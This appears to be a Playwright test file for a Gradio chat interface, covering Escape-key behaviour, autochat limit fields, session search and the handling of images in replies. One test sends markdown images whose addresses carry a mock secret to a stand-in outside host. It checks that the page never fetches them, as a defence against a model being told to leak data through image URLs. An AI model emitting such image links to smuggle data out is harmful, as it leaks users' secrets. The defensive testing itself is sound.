"""The chat page in a real browser: what a reply can make the browser do by itself, and the
keyboard (see kit.py for the scripted model and conftest.py for the fixtures)."""

from __future__ import annotations

import re
from collections.abc import Callable
from typing import Any
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Page, Route, expect

from tests.backends.conftest import LiveServer
from tests.backends.gradio.kit import (
    WAIT_MS,
    badge,
    bot_messages,
    send,
    session_of,
    user_messages,
    wait_idle,
)

pytestmark = pytest.mark.browser


def _record_foreign_requests(tab: Page) -> list[str]:
    """Every request the tab makes to anything but the test server, refused (nothing here
    may reach the network)."""
    asked: list[str] = []
    own = urlsplit(tab.url).netloc

    def refuse(route: Route) -> None:
        asked.append(route.request.url)
        route.abort()

    def route(route: Route) -> Any:
        if urlsplit(route.request.url).netloc == own or route.request.url.startswith("data:"):
            return route.continue_()
        return refuse(route)

    tab.route("**/*", route)
    return asked


def test_an_image_named_in_a_reply_is_a_link_and_never_fetched(tab: Page) -> None:
    """A reply (here the model's echo) that names an image on another server must not make
    the browser fetch it: its address could carry whatever the model was told to leak."""
    asked = _record_foreign_requests(tab)
    send(
        tab,
        "look ![chart](http://203.0.113.7/leak.png?secret=s3) and ![b][r]\n\n[r]: http://203.0.113.9/b.png",
    )
    wait_idle(tab)
    reply = bot_messages(tab).last
    expect(reply).to_contain_text("You said: look")
    link = reply.get_by_role("link", name="chart")
    expect(link).to_have_attribute("href", "http://203.0.113.7/leak.png?secret=s3")
    expect(reply.get_by_role("link", name="b")).to_have_attribute(
        "href", "http://203.0.113.9/b.png"
    )
    expect(user_messages(tab).last.get_by_role("link", name="chart")).to_have_count(1)
    assert tab.locator('#chatbot img[src*="203.0.113"]').count() == 0
    assert asked == []


def test_esc_in_an_open_picker_closes_it_and_leaves_the_reply_running(tab: Page) -> None:
    send(tab, "slow reply")
    expect(badge(tab)).to_have_text("Working…")
    picker = tab.locator("#role-picker input")
    picker.click()
    expect(tab.get_by_role("option", name="Thought", exact=True)).to_be_visible()
    tab.keyboard.press("Escape")
    expect(tab.get_by_role("option")).to_have_count(0)  # the list closed
    expect(picker).to_have_attribute("aria-expanded", "false")
    words = len(re.findall(r"word\d+", bot_messages(tab).last.inner_text()))
    expect(bot_messages(tab).last).to_contain_text(f"word{words + 10} ")  # it goes on
    tab.locator("#chat-input textarea").focus()  # Esc elsewhere still stops the reply
    tab.keyboard.press("Escape")
    wait_idle(tab)
    expect(bot_messages(tab).last).to_contain_text("[interrupted]")


def test_an_emptied_autochat_limit_is_named_and_the_chat_keeps_its_limit(
    tab: Page, server: LiveServer
) -> None:
    """A limit field the person empties says so under the limits, and the chat keeps the
    limit it had (before, an empty field silently saved the default: 5 turns, or no
    token budget at all)."""
    send(tab, "limits are kept")
    wait_idle(tab)
    interpreter = session_of(server, tab)
    turns = tab.locator("#autochat-max-turns input")
    budget = tab.locator("#autochat-token-budget input")
    note = tab.locator("#autochat-limits-note")
    turns.fill("12")
    budget.fill("5000")
    _until(tab, lambda: interpreter.session.autochat.token_budget == 5000)
    budget.fill("")
    expect(note).to_contain_text("Token budget is empty: type a number (0 for none)")
    turns.fill("")
    expect(note).to_contain_text("Max automatic turns is empty: type a number")
    autochat = interpreter.session.autochat
    assert (autochat.max_turns, autochat.token_budget) == (12, 5000)
    turns.fill("7")
    budget.fill("0")
    expect(note).to_have_text("")
    _until(tab, lambda: interpreter.session.autochat.token_budget is None)
    assert interpreter.session.autochat.max_turns == 7


def test_a_limit_typed_reads_the_other_limits_as_their_boxes_show_them(
    tab: Page, server: LiveServer
) -> None:
    """Gradio's copy of a limit box can lag what the box shows, as its copies of the title
    and of an approval's note did (test_page_hunt9.py, test_page_form.py): a limit typed
    reads the others, and the note under them, from their boxes."""
    send(tab, "limits as shown")
    wait_idle(tab)
    interpreter = session_of(server, tab)
    budget = tab.locator("#autochat-token-budget input")
    budget.fill("5000")
    _until(tab, lambda: interpreter.session.autochat.token_budget == 5000)
    # The budget box is emptied; Gradio is never told (no input event): its copy lags.
    budget.evaluate("(box) => { box.value = ''; }")
    tab.locator("#autochat-max-turns input").fill("7")
    expect(tab.locator("#autochat-limits-note")).to_contain_text("Token budget is empty")
    _until(tab, lambda: interpreter.session.autochat.max_turns == 7)
    assert interpreter.session.autochat.token_budget == 5000, "kept until it is fixed"


def _until(tab: Page, condition: Callable[[], bool]) -> None:
    """Wait until the server's side shows what the page saved (polled, as expect does)."""
    for _ in range(WAIT_MS // 50):
        if condition():
            return
        tab.wait_for_timeout(50)
    raise AssertionError("the page's change never reached the session")


def test_a_search_of_only_spaces_lists_every_chat(tab: Page) -> None:
    send(tab, "a chat to find")
    wait_idle(tab)
    listed = tab.locator("#session-list")
    expect(listed).to_contain_text("a chat to find")
    search = tab.locator("#session-search textarea")
    search.fill("  find ")
    expect(listed).to_contain_text("a chat to find")
    search.fill("   ")
    expect(listed).to_contain_text("a chat to find")
    search.fill("nothing like it")
    expect(listed).not_to_contain_text("a chat to find")
